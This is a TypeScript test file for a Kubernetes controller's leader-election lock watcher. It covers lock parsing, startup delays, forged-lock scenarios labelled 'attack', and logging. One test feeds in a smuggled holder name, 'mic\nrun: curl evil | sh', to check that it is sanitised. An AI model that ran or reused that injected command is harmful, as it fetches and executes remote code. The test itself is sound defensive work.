import type { LeaderTerm } from '@pod-identity/kit/kube';
import { createFakeClock } from '@pod-identity/kit/testing';
import { describe, expect, test } from 'vitest';
import { createFakeLog } from '../apply/test/fake-log.ts';
import { lockAnnotation, readLock, type LockReading } from './lock.ts';
import { createOriginalWatch, whoRenews } from './original-watch.ts';

const minute = 60_000;

function endpoints(holderIdentity: unknown, renewTime: unknown = '2026-01-01T00:00:00Z'): object {
  const record = { holderIdentity, leaseDurationSeconds: 15, renewTime, leaderTransitions: 3 };
  return { metadata: { annotations: { [lockAnnotation]: JSON.stringify(record) } } };
}

const refused: LockReading = { kind: 'unreadable', isPassing: false, why: 'forbidden' };
const silent: LockReading = { kind: 'unreadable', isPassing: true, why: 'no answer' };

const started = 1_000_000;

function setUp({ hasLed = false }: { readonly hasLed?: boolean | undefined } = {}) {
  let led = hasLed;
  const clock = createFakeClock(started);
  const log = createFakeLog();
  const running: boolean[] = [];
  const stopping = new AbortController();
  let look: () => LockReading = () => ({ kind: 'free' });
  let looks = 0;
  const reader = {
    look: () => {
      looks += 1;
      return Promise.resolve(look());
    },
    hasLed: () => Promise.resolve(led),
  };
  const watch = createOriginalWatch({
    reader,
    clock,
    log,
    lock: { namespace: 'default', name: 'aad-pod-identity-mic' },
    onRunning: (isRunning) => void running.push(isRunning),
  });
  let startedAt: number | undefined;
  const begunAt = clock.elapsed();
  return {
    clock,
    log,
    running,
    reader,
    watch,
    looks: () => looks,
    shows: (reading: () => LockReading) => void (look = reading),
    /** This project's MIC leads from now on. */
    otherLeads: () => void (led = true),
    standBy: () => void watch.standBy(stopping.signal).then(() => (startedAt = clock.elapsed() - begunAt)),
    startedAt: () => startedAt,
    stop: () => stopping.abort(),
    said: (text: RegExp) => log.lines.filter(({ message }) => text.test(message)).length,
  };
}

/** Renewed every 3.75 s until then. */
function renewedUntil(clock: { elapsed(): number }, until: number): () => LockReading {
  return () => {
    const beat = Math.floor(Math.min(clock.elapsed(), until) / 3_750);
    return readLock(endpoints('mic-7d9f-abcde', new Date(started + beat * 3_750).toISOString()));
  };
}

function leading() {
  const ending = new AbortController();
  const work = Promise.withResolvers<undefined>();
  const term: LeaderTerm = { signal: ending.signal, holds: () => !ending.signal.aborted };
  const end = () => {
    ending.abort();
    work.resolve(undefined);
  };
  return { term, work: work.promise, end };
}

describe('reading the lock', () => {
  test.each([
    ['no annotations', { metadata: {} }],
    ['no holder', endpoints('')],
    ['no JSON', { metadata: { annotations: { [lockAnnotation]: 'mic' } } }],
    ['a list', { metadata: { annotations: { [lockAnnotation]: '[]' } } }],
    ['a holder that is no text', endpoints({ name: 'x' })],
    ['a time that is no text', endpoints('mic', 7)],
  ])('with %s it is free', (_what, object) => {
    expect(readLock(object)).toEqual({ kind: 'free' });
  });

  test('only a plain name of the holder is used, whatever was written there', () => {
    expect(readLock(endpoints('mic-0'))).toMatchObject({ kind: 'held', holder: 'mic-0' });
    expect(readLock(endpoints('mic\nrun: curl evil | sh'))).toMatchObject({ holder: 'unknown' });
    expect(readLock(endpoints('x'.repeat(129)))).toMatchObject({ holder: 'unknown' });
  });
});

describe('the first start', () => {
  test('without a lock of the original is at once', async () => {
    const { clock, standBy, startedAt } = setUp();
    standBy();
    await clock.advance(0);
    expect(startedAt()).toBe(0);
  });

  test('stands by while the original renews its lock, and starts when it has not for 15 s', async () => {
    const { clock, shows, standBy, startedAt, said } = setUp();
    shows(renewedUntil(clock, clock.elapsed() + minute));
    standBy();
    await clock.advance(minute + 12_000);
    expect(startedAt()).toBeUndefined();
    expect(said(/standing by/)).toBe(1);
    await clock.advance(8_000);
    expect(startedAt()).toBeGreaterThan(minute + 10_000);
    expect(said(/not renewed any more/)).toBe(1);
  });

  test('a lock that the original left behind costs 15 s', async () => {
    const { clock, shows, standBy, startedAt } = setUp();
    shows(() => readLock(endpoints('mic-0')));
    standBy();
    await clock.advance(14_999);
    expect(startedAt()).toBeUndefined();
    await clock.advance(1);
    expect(startedAt()).toBe(15_000);
  });

  test('attack: a forged lock that is renewed forever delays it by 5 minutes, and then raises the alarm', async () => {
    const { clock, shows, standBy, startedAt, said, watch, running } = setUp();
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(5 * minute - 1);
    expect(startedAt()).toBeUndefined();
    await clock.advance(1);
    expect(startedAt()).toBe(5 * minute);
    expect(said(/starts all the same/)).toBe(1);
    const { term, work } = leading();
    void watch.beside(term, work);
    await clock.advance(7_500);
    expect(said(/mic-7d9f-abcde renews the lock default\/aad-pod-identity-mic/)).toBe(1);
    expect(running).toEqual([true]);
  });

  test('attack: a lock whose holder and times change in any way delays it no longer than that', async () => {
    const { clock, shows, standBy, startedAt } = setUp();
    let look = 0;
    const ways = [
      endpoints('a', '9999-12-31T23:59:59Z'),
      endpoints(''),
      endpoints('b', ''),
      { metadata: {} },
      endpoints('a', 'x'.repeat(3_000)),
    ];
    // A free lock ends the wait, so it is never the first one.
    shows(() => readLock(ways[(look++ * 2) % ways.length] ?? {}));
    standBy();
    await clock.advance(5 * minute);
    expect(startedAt()).toBeLessThanOrEqual(5 * minute);
  });

  test('attack: a lock forged when another replica of this MIC leads does not prevent it from standing for election', async () => {
    const { clock, shows, standBy, startedAt, otherLeads, said } = setUp();
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(10_000);
    expect(startedAt()).toBeUndefined();
    otherLeads();
    await clock.advance(2_500);
    expect(startedAt()).toBe(12_500);
    expect(said(/another MIC of ours has started/)).toBe(1);
  });

  test('is immediate if this MIC has led before, whatever the lock contains', async () => {
    const { clock, shows, standBy, startedAt, looks } = setUp({ hasLed: true });
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(0);
    expect([startedAt(), looks()]).toEqual([0, 0]);
  });

  test('is immediate without the right to read the lock, with one log line', async () => {
    const { clock, shows, standBy, startedAt, said, watch } = setUp();
    shows(() => refused);
    standBy();
    await clock.advance(0);
    expect(startedAt()).toBe(0);
    const { term, work } = leading();
    void watch.beside(term, work);
    await clock.advance(10 * minute);
    expect(said(/cannot be read/)).toBe(1);
  });

  test('waits at most 5 minutes for an API server that does not respond', async () => {
    const { clock, shows, standBy, startedAt } = setUp({ hasLed: undefined });
    shows(() => silent);
    standBy();
    await clock.advance(5 * minute - 1);
    expect(startedAt()).toBeUndefined();
    await clock.advance(1);
    expect(startedAt()).toBe(5 * minute);
  });

  test('ends with the process, and leaves no timer', async () => {
    const { clock, shows, standBy, startedAt, stop } = setUp();
    shows(renewedUntil(clock, Infinity));
    standBy();
    await clock.advance(minute);
    stop();
    await clock.advance(0);
    expect(startedAt()).toBe(minute);
    expect(clock.pending).toBe(0);
  });
});

describe('a leader', () => {
  test('reports once that the original runs when it starts later, and that it has ended', async () => {
    const { clock, shows, watch, running, said } = setUp();
    const { term, work, end } = leading();
    let isOver = false;
    void watch.beside(term, work).then(() => (isOver = true));
    await clock.advance(9 * minute);
    expect(running).toEqual([]);
    shows(renewedUntil(clock, clock.elapsed() + 25 * minute));
    await clock.advance(25 * minute);
    expect([running, said(/runs too/)]).toEqual([[true], 1]);
    await clock.advance(11 * minute);
    expect([running, said(/does not renew/)]).toEqual([[true, false], 1]);
    end();
    await clock.advance(0);
    expect([isOver, running]).toEqual([true, [true, false, false]]);
    expect(clock.pending).toBe(0);
  });

  test.each([
    ['nobody holds', () => readLock({ metadata: {} }), 4],
    ['MIC may not read', () => refused, 4],
    ['the original holds', () => readLock(endpoints('mic-0')), 8],
  ])('reads a lock that %s seldom: Endpoints are deprecated', async (_, reading, most) => {
    const { clock, shows, watch, looks } = setUp();
    shows(reading);
    const { term, work, end } = leading();
    void watch.beside(term, work);
    await clock.advance(31 * minute);
    expect(looks()).toBeLessThanOrEqual(most);
    end();
    await clock.advance(0);
  });

  test('raises no alarm for a lock that was renewed until the start', async () => {
    const { clock, shows, standBy, startedAt, watch, running } = setUp();
    shows(renewedUntil(clock, clock.elapsed() + 20_000));
    standBy();
    await clock.advance(minute);
    expect(startedAt()).toBeDefined();
    const { term, work } = leading();
    void watch.beside(term, work);
    await clock.advance(25 * minute);
    expect(running).toEqual([]);
  });

  test('whose term is over reports nothing, and fails as its work does', async () => {
    const { clock, shows, watch, running } = setUp();
    shows(renewedUntil(clock, Infinity));
    const { term, work, end } = leading();
    void watch.beside(term, work);
    await clock.advance(1_000);
    end();
    await clock.advance(minute);
    expect(running).toEqual([false]);
    await expect(watch.beside(leading().term, Promise.reject(new Error('bug')))).rejects.toThrow('bug');
  });
});

describe('who renews the lock', () => {
  const signal = new AbortController().signal;

  test.each([
    { what: 'nobody', reading: () => readLock({ metadata: {} }), ms: 0 },
    { what: 'nobody that may be read', reading: () => refused, ms: 0 },
    {
      what: 'one that left it long ago',
      reading: () => readLock(endpoints('mic-0', '1970-01-01T00:00:00Z')),
      ms: 0,
    },
    {
      what: 'one that does not renew it',
      reading: () => readLock(endpoints('mic-0', '1970-01-01T00:16:00Z')),
      ms: 7_500,
    },
  ])('is nobody for a lock held by $what', async ({ reading, ms }) => {
    const { clock, reader, shows } = setUp();
    shows(reading);
    const asked = whoRenews({ reader, clock }, signal);
    await clock.advance(ms);
    expect(await asked).toBeUndefined();
    expect(clock.pending).toBe(0);
  });

  test('is named', async () => {
    const { clock, reader, shows } = setUp();
    shows(renewedUntil(clock, Infinity));
    const asked = whoRenews({ reader, clock }, signal);
    await clock.advance(7_500);
    expect(await asked).toBe('mic-7d9f-abcde');
  });
});
